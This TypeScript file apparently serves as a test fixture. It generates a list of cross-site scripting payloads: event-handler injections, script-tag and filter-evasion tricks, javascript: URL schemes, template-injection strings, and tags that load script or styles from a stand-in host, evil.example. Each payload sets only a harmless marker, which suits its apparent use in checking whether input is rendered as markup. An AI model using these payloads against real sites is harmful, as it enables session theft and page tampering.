/** Sets what the page is asked for afterwards. */
const RUN = 'fired=1';

const HANDLERS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter'];
const ELEMENTS = ['img src=x', 'svg', 'body', 'input autofocus', 'details open', 'video src=x', 'iframe', 'a href=x'];
/** Out of an attribute, a tag, a string or a comment that the words may stand in. */
const BREAKOUTS = ['', '">', "'>", '</p>', '--><'];

const WHOLE = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script src=//evil.example/x.js></script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext></p><img src=x onerror=${RUN}></mtext></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>Go</button></form>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `"-(${RUN})-"`,
  `';${RUN};//`,
];
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  'data:text/html,',
  'vbscript:',
];
const LINKS = ['', '//%0a', "void('https://a.example');"].flatMap((before) =>
  SCHEMES.flatMap((scheme) => [`${scheme}${before}${RUN}`, `[link](${scheme}${before}${RUN})`]),
);

/** Words that would run in a page that took them for more than words; short ones first. */
export const SCRIPTS: readonly string[] = [
  ...HANDLERS.flatMap((handler) =>
    ELEMENTS.flatMap((element) => BREAKOUTS.map((breakout) => `${breakout}<${element} ${handler}=${RUN}>`)),
  ),
  ...WHOLE,
  ...LINKS,
];
